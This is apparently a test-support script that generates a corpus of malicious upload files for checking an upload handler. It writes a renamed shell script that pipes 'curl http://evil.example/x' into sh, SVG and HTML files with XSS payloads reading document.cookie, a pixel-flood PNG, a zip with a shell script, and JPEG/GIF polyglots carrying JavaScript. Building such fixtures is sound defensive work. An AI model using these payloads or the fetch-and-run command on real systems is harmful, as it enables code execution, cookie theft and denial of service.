"""Build the bad-upload corpus in tests/security/corpus/ (run once; the files are committed).

    /work/main/.venv/bin/python tests/security/make_corpus.py

Every file is small. The oversized upload is made in the test itself (it would be megabytes).
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

from PIL import Image

CORPUS = Path(__file__).resolve().parent / "corpus"


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def pixel_flood_png() -> bytes:
    """A valid-looking PNG header claiming 100000 x 100000 pixels, with a tiny IDAT."""
    ihdr = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 1024, 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


def small_jpeg() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (32, 24), (10, 200, 30)).save(buffer, "JPEG")
    return buffer.getvalue()


def zip_file() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("photo.jpg", small_jpeg())
        archive.writestr("run.sh", "#!/bin/sh\necho pwned\n")
    return buffer.getvalue()


FILES = {
    "script-renamed.jpg": b"#!/bin/sh\ncurl http://evil.example/x | sh\n",
    "svg-with-script.jpg": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">'
    b"<script>alert(document.cookie)</script></svg>",
    "svg-with-script.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>',
    "page.html.jpg": b"<!doctype html><html><body><script>alert(1)</script></body></html>",
    "pixel-flood.png": pixel_flood_png(),
    "truncated.jpg": small_jpeg()[:200],
    "archive.zip.jpg": zip_file(),
    # A real JPEG with an HTML/JS payload appended and a zip after it: opens as an image, so it
    # may be accepted, but then only re-encoded pixels may be stored.
    "polyglot.jpg": small_jpeg() + b"<script>alert('polyglot-payload')</script>" + zip_file(),
    "gif-js-polyglot.gif": b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;alert('polyglot-payload');//",
    "empty.jpg": b"",
}


def main() -> None:
    CORPUS.mkdir(exist_ok=True)
    for name, data in FILES.items():
        (CORPUS / name).write_bytes(data)
    print(f"wrote {len(FILES)} files to {CORPUS}")


if __name__ == "__main__":
    main()
